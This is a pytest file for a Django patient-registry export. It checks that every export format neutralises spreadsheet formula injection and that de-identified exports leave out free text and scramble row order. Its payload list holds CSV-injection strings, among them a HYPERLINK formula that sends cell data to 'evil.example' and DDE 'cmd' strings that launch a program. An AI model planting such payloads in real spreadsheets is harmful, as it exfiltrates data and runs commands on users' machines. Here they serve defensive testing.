"""Issue #14 points 2 and 3: no live formula in any export, and no free text nor study-ID order
in a de-identified one."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pyreadstat
import pytest
from django.core.management import call_command
from django.db import models
from openpyxl import load_workbook

from registry import cohort_file
from registry.cohort_file.cells import export_value, formula_like, import_text
from registry.cohort_file.columns import COLUMN_BY_NAME
from registry.cohort_file.deidentify import DEIDENTIFIED_COLUMNS
from registry.cohort_file.row_import import FIELD_COLUMNS
from registry.cohort_file.writing import write_stat_file, write_xlsx
from registry.models import (
    CrsEpisode,
    FollowUpContact,
    Patient,
    ResponseAssessment,
    Transplant,
    Treatment,
)
from tests.registry.test_cohort_file import ALIVE_CAR_T, csv_bytes

pytestmark = pytest.mark.django_db

# OWASP CSV injection: the characters that start a formula, alone, after spaces, after quotes.
PAYLOAD = 'HYPERLINK("http://evil.example/?x="&A1,"click")'
DANGEROUS = [
    f"={PAYLOAD}",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    '"=1+1',
    "'=1+1",
    " '@SUM(A1)",
]
FORMATS = ("csv", "xlsx", "sav", "dta")


def text_columns(*, deidentify: bool) -> list[cohort_file.Column]:
    return [
        c for c in cohort_file.export_columns(deidentify=deidentify) if c.kind in ("text", "site")
    ]


def synthetic_rows(columns: list[cohort_file.Column]) -> list[dict]:
    """One row per dangerous text, in every text column at once."""
    rows = []
    for text in DANGEROUS:
        row: dict = {}
        for column in columns:
            match column.kind:
                case "text" | "site":
                    row[column.name] = text
                case "enum":
                    row[column.name] = column.values[0]
                case "date":
                    row[column.name] = date(2022, 3, 1)
                case "number":
                    row[column.name] = Decimal("1.5")
                case _:
                    row[column.name] = 1
        rows.append(row)
    return rows


def write(tmp_path: Path, fmt: str, rows: list[dict], columns, *, deidentify: bool) -> Path:
    target = tmp_path / f"out.{fmt}"
    if fmt == "csv":
        target.write_text("".join(cohort_file.csv_lines(rows, columns)), encoding="utf-8")
    elif fmt == "xlsx":
        write_xlsx(target, rows, columns, deidentify=deidentify)
    else:
        write_stat_file(target, rows, columns, fmt=fmt)
    return target


def text_cells(target: Path, fmt: str, names: list[str]) -> list[str]:
    """The exported text of the named columns, as a spreadsheet or statistics package reads it."""
    if fmt == "csv":
        with target.open(encoding="utf-8", newline="") as stream:
            rows = list(csv.DictReader(stream))
        return [row[name] for row in rows for name in names]
    if fmt == "xlsx":
        sheet = load_workbook(target)["cohort"]  # not data_only: formulas would show as such
        header = [cell.value for cell in sheet[1]]
        return [
            sheet.cell(row=r, column=header.index(name) + 1).value
            for r in range(2, sheet.max_row + 1)
            for name in names
        ]
    frame, _ = (pyreadstat.read_sav if fmt == "sav" else pyreadstat.read_dta)(str(target))
    return [frame.loc[i, name] for i in range(len(frame)) for name in names]


@pytest.mark.parametrize("deidentify", [False, True], ids=["identified", "deidentified"])
@pytest.mark.parametrize("fmt", FORMATS)
def test_every_text_column_of_every_format_neutralises_every_formula_prefix(
    tmp_path, fmt, deidentify
):
    columns = cohort_file.export_columns(deidentify=deidentify)
    names = [column.name for column in text_columns(deidentify=deidentify)]
    target = write(tmp_path, fmt, synthetic_rows(columns), columns, deidentify=deidentify)

    cells = text_cells(target, fmt, names)

    assert names and len(cells) == len(DANGEROUS) * len(names)
    expected = [f"'{text}" for text in DANGEROUS for _name in names]
    if fmt == "xlsx":  # XML reads a CR as a line feed (the escape is still in front)
        expected = [text.replace("\r", "\n") for text in expected]
    assert cells == expected
    assert not [cell for cell in cells if cell.lstrip(' "').startswith(tuple("=+-@\t\r"))]


def test_no_cell_of_an_xlsx_export_is_a_formula(tmp_path):
    columns = cohort_file.export_columns(deidentify=False)
    target = write(tmp_path, "xlsx", synthetic_rows(columns), columns, deidentify=False)

    workbook = load_workbook(target)
    kinds = {cell.data_type for sheet in workbook for row in sheet.iter_rows() for cell in row}
    with zipfile.ZipFile(target) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]

    assert "f" not in kinds
    assert not [xml for xml in sheets if b"<f>" in xml or b"<f " in xml]


@pytest.mark.parametrize(
    "text",
    [*DANGEROUS, "plain", "'quoted but safe", "''=two quotes", "-", "=", "1-2", "a=b"],
)
def test_the_import_takes_away_exactly_the_quote_the_export_added(text):
    exported = export_value(text)

    assert import_text(exported) == text
    # A spreadsheet takes a cell starting with ' as text.
    assert exported.startswith("'") or not formula_like(exported)


def test_safe_text_and_numbers_are_exported_unchanged():
    assert export_value("Anti-CD19 CAR-T (4-1BB)") == "Anti-CD19 CAR-T (4-1BB)"
    assert export_value(-5) == -5
    assert export_value(None) is None


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_planted_formula_exports_inert_and_imports_back_as_typed(
    tmp_path, site, administrator, fmt
):
    planted = [
        ALIVE_CAR_T | {"study_id": f"AHP-{n:03d}", "product": text}
        for n, text in enumerate(DANGEROUS)
        # The import trims cells, as a spreadsheet user expects, and reads a leading ' before a
        # formula as the escape of one.
        if text == text.strip() and not text.startswith("'")
    ]
    assert cohort_file.import_cohort(csv_bytes(planted), name="c.csv", user=administrator).ok
    target = tmp_path / f"cohort.{fmt}"
    call_command("export_cohort", str(target), "--format", fmt, stdout=io.StringIO())

    assert sorted(text_cells(target, fmt, ["product"])) == sorted(
        f"'{row['product']}" for row in planted
    )
    for model in (CrsEpisode, ResponseAssessment, Transplant, FollowUpContact, Treatment, Patient):
        model.objects.all().delete()  # an empty registry (the test's setup, not the app's)
    result = cohort_file.import_cohort(target.read_bytes(), name=target.name, user=administrator)
    assert result.ok, result.problems
    assert sorted(Treatment.objects.values_list("product", flat=True)) == sorted(
        row["product"] for row in planted
    )


# --- de-identified exports ---------------------------------------------------------------------
def free_text_fields() -> list[tuple[type[models.Model], str, str]]:
    """(model, field, flat-file column) of every free-text field behind a flat-file column."""
    found = []
    for model, columns in FIELD_COLUMNS.items():
        for field in model._meta.get_fields():
            free = isinstance(field, models.CharField | models.TextField) and not field.choices
            column = columns.get(field.name)
            if column is None and field.name in COLUMN_BY_NAME:
                column = field.name
            if free and column is not None:
                found.append((model, field.name, column))
    return found


def test_the_deidentified_columns_are_the_documented_list_with_a_reason_each():
    names = [column.name for column in cohort_file.export_columns(deidentify=True)]
    documented = Path(__file__).parents[2].joinpath("docs", "DEIDENTIFICATION.md").read_text()

    assert names == [name for name, _reason in DEIDENTIFIED_COLUMNS]
    assert all(reason for _name, reason in DEIDENTIFIED_COLUMNS)
    for name in names:
        assert f"`{name}`" in documented


def test_no_free_text_column_is_in_a_deidentified_export():
    names = {column.name for column in cohort_file.export_columns(deidentify=True)}
    free = free_text_fields()

    assert {("Treatment", "product"), ("Patient", "study_id")} <= {
        (m.__name__, f) for m, f, _c in free
    }
    assert not [(m.__name__, f, c) for m, f, c in free if c in names]
    # Nothing but the random patient code and the site's code is text at all.
    kinds = {c.name: c.kind for c in cohort_file.export_columns(deidentify=True)}
    assert {name for name, kind in kinds.items() if kind == "text"} == {"patient_code"}


NAME_IN_PRODUCT = "Zhang Wei MRN 00123456 born 1990-04-02"


@pytest.mark.parametrize("fmt", FORMATS)
def test_text_typed_in_a_free_text_field_never_reaches_a_deidentified_file(
    tmp_path, site, administrator, fmt
):
    row = ALIVE_CAR_T | {"product": NAME_IN_PRODUCT}
    assert cohort_file.import_cohort(csv_bytes([row]), name="c.csv", user=administrator).ok
    target = tmp_path / f"anonymous.{fmt}"
    call_command(
        "export_cohort", str(target), "--deidentify", "--format", fmt, stdout=io.StringIO()
    )

    raw = target.read_bytes()
    if fmt == "xlsx":
        with zipfile.ZipFile(target) as archive:
            raw = b"".join(archive.read(name) for name in archive.namelist())
    for part in ("Zhang", "00123456", "1990-04-02", "product"):
        assert part.encode() not in raw


def spearman(values: list[float]) -> float:
    return float(pd.Series(values).corr(pd.Series(range(len(values))), method="spearman"))


def test_deidentified_rows_come_in_an_order_unrelated_to_the_study_ids(
    tmp_path, site, administrator
):
    # Marrow blasts rise with the study ID: the order of the blasts is the study IDs' order.
    rows = [
        ALIVE_CAR_T | {"study_id": f"AHP-{n:03d}", "bm_blast_pct": str(n + 5)} for n in range(40)
    ]
    assert cohort_file.import_cohort(csv_bytes(rows), name="c.csv", user=administrator).ok
    orders = []
    for attempt in range(3):
        target = tmp_path / f"anonymous{attempt}.csv"
        call_command("export_cohort", str(target), "--deidentify", stdout=io.StringIO())
        with target.open(encoding="utf-8") as stream:
            orders.append([float(r["bm_blast_pct"]) for r in csv.DictReader(stream)])

    for order in orders:
        assert sorted(order) == [float(n + 5) for n in range(40)]
        # A random order: the chance of |rho| >= 0.6 for 40 rows is below 1e-4.
        assert abs(spearman(order)) < 0.6
    assert len({tuple(order) for order in orders}) == 3
